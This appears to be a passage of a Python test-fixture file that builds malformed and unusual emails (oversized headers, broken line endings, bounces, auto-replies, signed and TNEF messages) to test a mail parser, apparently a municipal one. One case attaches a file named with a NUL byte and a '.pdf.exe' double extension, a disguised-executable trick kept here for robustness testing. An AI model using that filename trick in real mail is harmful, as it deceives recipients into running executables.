        "Content-Type: text/plain; charset=us-ascii",
        body=b"Hei.\n",
    ),
)


def _huge_subject(length: int) -> list[str]:
    """A Subject of about ``length`` characters (decoded), folded into short lines."""
    words = ("Klage", "på", "vedtak", "om", "byggeløyve", "gnr.", "12", "bnr.", "345")
    lines, line, size, index = [], "Subject:", 0, 0
    while size < length:
        word = words[index % len(words)]
        index += 1
        size += len(word) + 1
        if not word.isascii():
            quoted = "".join(chr(b) if b < 128 else f"={b:02X}" for b in word.encode())
            word = f"=?utf-8?q?{quoted}?="
        if len(line) + len(word) > 70:
            lines.append(line)
            line = ""
        line += " " + word
    lines.append(line)
    return lines


_case(
    "huge_subject_20000_chars",
    _mail(
        "From: langt.emne@example.no",
        TO,
        *_huge_subject(20_000),
        DATE,
        "Message-ID: <hugesubject-1@example.no>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Emnet er langt.\n",
    ),
)


def _received(count: int) -> list[str]:
    return [
        f"Received: from relay{n}.example.net (relay{n}.example.net [192.0.2.{n % 250 + 1}])\n"
        f"\tby relay{n + 1}.example.net (Postfix) with ESMTPS id 4Z{n:05X}QK\n"
        f"\tfor <postmottak@alver.kommune.no>; Mon, 23 Nov 2026 08:{n % 60:02}:03 +0100"
        for n in range(count)
    ]


_case(
    "five_hundred_received_headers",
    _mail(
        *_received(500),
        "From: Loop <loop@example.net>",
        TO,
        "Subject: Mange hopp",
        DATE,
        "Message-ID: <received-500@example.net>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Denne har gatt i ring.\n",
    ),
)

_case(
    "unfolded_header_line_over_998_chars",
    _mail(
        "From: =?utf-8?q?Lang_Tr=C3=A5d?= <lang.trad@example.no>",
        TO,
        "Subject: Re: " + "sak om skuleskyss " * 60,
        DATE,
        "Message-ID: <longline-1@example.no>",
        "References: " + " ".join(f"<{n}.thread@example.no>" for n in range(200)),
        "X-Long: " + "x" * 5000,
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Svar i lang trad.\n",
    ),
)

_case(
    "bare_lf_line_endings",
    (
        _head(
            "From: Unix <unix@example.no>",
            TO,
            "Subject: =?utf-8?q?Berre_LF_=C3=A6=C3=B8=C3=A5?=",
            DATE,
            "Message-ID: <lf-1@example.no>",
            MIME,
            'Content-Type: multipart/alternative; boundary="lf"',
        )
        + b"\n"
        + _multipart(
            "lf",
            _part("Content-Type: text/plain; charset=utf-8", body=_text("Linje 1\nLinje 2 æøå\n")),
            _part("Content-Type: text/html; charset=utf-8", body=_text("<p>Linje 1<br>æøå</p>\n")),
        )
    ),
)

_case(
    "mixed_crlf_and_lf",
    b"From: Blanda <blanda@example.no>\r\n"
    b"To: postmottak@alver.kommune.no\n"
    b"Subject: Blanda linjeskift\r\n"
    b"Date: Mon, 23 Nov 2026 08:14:03 +0100\n"
    b"Message-ID: <mixed-eol-1@example.no>\r\n"
    b"Content-Type: text/plain; charset=utf-8\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\n"
    b"F\xc3\xb8rste linje\r\nAndre linje\nTredje linje\r\rFjerde\r\n",
)

_case(
    "no_body_at_all",
    _mail(
        "From: Tom <tom.body@example.no>",
        TO,
        "Subject: Utan tekst",
        DATE,
        "Message-ID: <nobody-1@example.no>",
    ),
)

_case(
    "headers_only_no_blank_line",
    _crlf(
        _head(
            "From: Berre Hovud <berre.hovud@example.no>",
            TO,
            "Subject: Berre hovud",
            DATE,
            "Message-ID: <headersonly-1@example.no>",
        )
    ),
)

_case(
    "headers_only_no_final_newline",
    b"From: siste@example.no\r\nSubject: Ingen linjeskift til slutt",
)

_case(
    "nul_bytes_in_body",
    _mail(
        "From: Nullbyte <nul@example.no>",
        TO,
        "Subject: NUL",
        DATE,
        "Message-ID: <nul-1@example.no>",
        MIME,
        'Content-Type: multipart/mixed; boundary="nul"',
        body=_multipart(
            "nul",
            _part(
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: 8bit",
                body=b"Hei\x00 p\xc3\xa5 deg\x00\x00 \xc3\xa6\xc3\xb8\xc3\xa5\n",
            ),
            _part(
                "Content-Type: application/pdf",
                'Content-Disposition: attachment; filename="rapport\x00.pdf.exe"',
                "Content-Transfer-Encoding: base64",
                body=_b64(PDF),
            ),
        ),
    ),
)

_case(
    "unparseable_date",
    _mail(
        "From: Dato <dato@example.no>",
        TO,
        "Subject: Rar dato",
        "Date: tysdag 31. februar 2026 kl. 25:61 (CET)",
        "Message-ID: <date-1@example.no>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Dato er tull.\n",
    ),
)

_case(
    "garbage_bytes_no_headers",
    # Deliberately broken: no sender anywhere; expected to be flagged unreadable.
    bytes(range(256)) + b"\x00\xff\xfe" * 100 + b"\r\n\r\n" + bytes(range(255, -1, -1)),
)

_case(
    "empty_bytes",
    # Deliberately broken: nothing at all.
    b"",
)

# --- Who it is from ---------------------------------------------------------

_case(
    "sender_without_from",
    _mail(
        "Sender: Kundeservice <kundeservice@example.no>",
        TO,
        "Subject: Melding utan From",
        DATE,
        "Message-ID: <sender-1@example.no>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Fraa systemet vaart.\n",
    ),
)

_case(
    "from_without_domain_with_reply_to",
    _mail(
        "From: Kari <kari>",
        "Reply-To: Kari Nordmann <kari.nordmann@example.no>",
        TO,
        "Subject: Svar meg her",
        DATE,
        "Message-ID: <nodomain-1@localhost>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Svar til Reply-To, takk.\n",
    ),
)

_case(
    "from_empty_group_with_return_path",
    _mail(
        "Return-Path: <skjema@example.no>",
        "From: undisclosed-recipients:;",
        TO,
        "Subject: Skjema",
        DATE,
        "Message-ID: <group-1@example.no>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Innsendt skjema.\n",
    ),
)

_case(
    "from_with_several_addresses_and_comments",
    _mail(
        'From: "Nordmann, Ola (Alver)" <ola@example.no> (kontor), kari@example.no',
        "Sender: sekretar@example.no",
        TO,
        "Subject: To avsendarar",
        DATE,
        "Message-ID: <multi-from-1@example.no>",
        "Content-Type: text/plain; charset=us-ascii",
        body=b"Fraa oss begge.\n",
    ),
)

_case(
    "noreply_sender",
    _mail(
        "From: Altinn <noreply@altinn.example>",
        TO,
        "Subject: =?utf-8?q?Du_har_f=C3=A5tt_ei_ny_melding_i_Altinn?=",
        DATE,
        "Message-ID: <noreply-1@altinn.example>",
        MIME,
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: quoted-printable",
        body=b"<p>Du har f=C3=A5tt ei ny melding. Ikkje svar p=C3=A5 denne e-posten.</p>\n",
    ),
)

# --- Automatic mail ---------------------------------------------------------

_case(
    "bounce_delivery_status_postfix",
    _mail(
        "Return-Path: <>",
        "From: Mail Delivery System <MAILER-DAEMON@mx1.alver.kommune.no>",
        TO,
        "Subject: Undelivered Mail Returned to Sender",
        DATE,
        "Message-ID: <20261123071502.4F2C1E0123@mx1.alver.kommune.no>",
        "Auto-Submitted: auto-replied",
        MIME,
        "Content-Type: multipart/report; report-type=delivery-status;",
        '\tboundary="4F2C1E0123.1795414502/mx1.alver.kommune.no"',
        "Content-Transfer-Encoding: 8bit",
        body=_multipart(
            "4F2C1E0123.1795414502/mx1.alver.kommune.no",
            _part(
                "Content-Description: Notification",
                "Content-Type: text/plain; charset=us-ascii",
                body=b"This is the mail system at host mx1.alver.kommune.no.\n\n"
                b"I'm sorry to have to inform you that your message could not\n"
                b"be delivered to one or more recipients.\n\n"
                b"<kari.nordmann@eksempel.example>: host mx.eksempel.example[192.0.2.10] said:\n"
                b"    550 5.1.1 <kari.nordmann@eksempel.example>: Recipient address rejected:\n"
                b"    User unknown in virtual mailbox table (in reply to RCPT TO command)\n",
            ),
            _part(
                "Content-Description: Delivery report",
                "Content-Type: message/delivery-status",
                body=b"Reporting-MTA: dns; mx1.alver.kommune.no\n"
                b"X-Postfix-Queue-ID: 4F2C1E0123\n"
                b"X-Postfix-Sender: rfc822; postmottak@alver.kommune.no\n"
                b"Arrival-Date: Mon, 23 Nov 2026 08:14:58 +0100 (CET)\n\n"
                b"Final-Recipient: rfc822; kari.nordmann@eksempel.example\n"
                b"Original-Recipient: rfc822;kari.nordmann@eksempel.example\n"
                b"Action: failed\n"
                b"Status: 5.1.1\n"
                b"Remote-MTA: dns; mx.eksempel.example\n"
                b"Diagnostic-Code: smtp; 550 5.1.1 <kari.nordmann@eksempel.example>:\n"
                b"    Recipient address rejected: User unknown in virtual mailbox table\n",
            ),
            _part(
                "Content-Description: Undelivered Message Headers",
                "Content-Type: text/rfc822-headers",
                body=b"Return-Path: <postmottak@alver.kommune.no>\n"
                b"From: Alver kommune <postmottak@alver.kommune.no>\n"
                b"To: kari.nordmann@eksempel.example\n"
                b"Subject: =?utf-8?q?Vi_har_motteke_f=C3=B8respurnaden_din?=\n"
                b"Date: Mon, 23 Nov 2026 08:14:57 +0100\n"
                b"Message-ID: <ack-1@svarfrist.example>\n"
                b"Auto-Submitted: auto-replied\n",
            ),
            preamble=b"This is a MIME-encapsulated message.\n\n",
        ),
    ),
)

_case(
    "bounce_exchange_ndr_with_original_message",
    _mail(
        "From: postmaster@outlook.example",
        TO,
        "Subject: Undeliverable: Vi har motteke henvendinga di",
        DATE,
        "Message-ID: <ndr-2@outlook.example>",
        "Auto-Submitted: auto-replied",
        MIME,
        "Content-Type: multipart/report; report-type=delivery-status;",
        ' boundary="ndr"',
        body=_multipart(
            "ndr",
            _part(
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: quoted-printable",
                body=b"Levering til desse mottakarane feila: ola@nowhere.example\n",
            ),
            _part(
                "Content-Type: message/delivery-status",
                body=b"Reporting-MTA: dns;AM0PR01MB1234.eurprd01.prod.outlook.example\n\n"
                b"Final-recipient: RFC822; ola@nowhere.example\n"
                b"Action: failed\n"
                b"Status: 5.4.1\n"
                b"Diagnostic-Code: smtp;550 5.4.1 Recipient address rejected: Access denied\n",
            ),
            _part(
                "Content-Type: message/rfc822",
                body=_head(
                    "From: Alver kommune <postmottak@alver.kommune.no>",
                    "To: ola@nowhere.example",
                    "Subject: Vi har motteke henvendinga di",
                    "Message-ID: <ack-2@svarfrist.example>",
                    "Content-Type: text/plain; charset=us-ascii",
                )
                + b"\nTakk for henvendinga.\n",
            ),
        ),
    ),
)

_case(
    "out_of_office_auto_replied",
    _mail(
        "From: =?utf-8?q?Sigrid_H=C3=B8vik?= <sigrid.hovik@example.no>",
        TO,
        "Subject: =?utf-8?q?Automatisk_svar:_Vi_har_motteke_f=C3=B8respurnaden_din?=",
        DATE,
        "Message-ID: <ooo-1@example.no>",
        "In-Reply-To: <ack-3@svarfrist.example>",
        "References: <ack-3@svarfrist.example>",
        "Auto-Submitted: auto-replied",
        "X-Auto-Response-Suppress: All",
        "X-MS-Exchange-Inbox-Rules-Loop: sigrid.hovik@example.no",
        "Thread-Topic: Vi har motteke forespurnaden din",
        MIME,
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        body=_b64("Eg er på ferie til 1. desember og les ikkje e-post.\n".encode()),
    ),
)

_case(
    "mailing_list_message",
    _mail(
        "From: KS Nyheiter <nyheiter@ks.example>",
        "To: kommunar@lists.ks.example",
        "Subject: [kommunar] Nytt om digitalisering",
        DATE,
        "Message-ID: <list-1@ks.example>",
        "List-Id: Kommunar <kommunar.lists.ks.example>",
        "List-Unsubscribe: <mailto:kommunar-leave@lists.ks.example>,",
        " <https://lists.ks.example/unsubscribe?u=abc123>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "List-Archive: <https://lists.ks.example/archive>",
        "Precedence: list",
        "Return-Path: <bounces+kommunar@lists.ks.example>",
        MIME,
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        body=_text("Nytt om digitalisering i kommunane. Avmelding nedst.\n"),
    ),
)

_case(
    "smime_signed",
    _mail(
        "From: Sikker Avsendar <sikker@example.no>",
        TO,
        "Subject: Signert melding",
        DATE,
        "Message-ID: <smime-1@example.no>",
        MIME,
        'Content-Type: multipart/signed; protocol="application/pkcs7-signature";',
        ' micalg=sha-256; boundary="----sig"',
        body=_multipart(
            "----sig",
            _part(
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: quoted-printable",
                body=b"Denne meldinga er signert. Venleg helsing S=C3=B8lvi\n",
            ),
            _part(
                'Content-Type: application/pkcs7-signature; name="smime.p7s"',
                "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="smime.p7s"',
                "Content-Description: S/MIME Cryptographic Signature",
                body=_b64(PKCS7),
            ),
            preamble=b"This is an S/MIME signed message\n\n",
        ),
    ),
)

_case(
    "smime_opaque_signed_p7m",
    _mail(
        "From: Opak <opak@example.no>",
        TO,
        "Subject: Opak signert",
        DATE,
        "Message-ID: <smime-2@example.no>",
        MIME,
        'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"',
        'Content-Disposition: attachment; filename="smime.p7m"',
        "Content-Transfer-Encoding: base64",
        body=_b64(PKCS7[:200]),
    ),
)

_case(
    "tnef_winmail_dat",
    _mail(
        "From: Outlook Brukar <outlook@example.no>",
        TO,
        "Subject: Vedlegg i winmail.dat",
        DATE,
        "Message-ID: <tnef-1@example.no>",
        "X-MS-TNEF-Correlator: 00000000A1B2C3D4",
        MIME,
        'Content-Type: multipart/mixed; boundary="tnef"',
        body=_multipart(
            "tnef",
            _part("Content-Type: text/plain; charset=us-ascii", body=b"Sjaa vedlegg.\n"),
            _part(
                'Content-Type: application/ms-tnef; name="winmail.dat"',
                'Content-Disposition: attachment; filename="winmail.dat"',
                "Content-Transfer-Encoding: base64",
                body=_b64(TNEF),
            ),
        ),
    ),
)
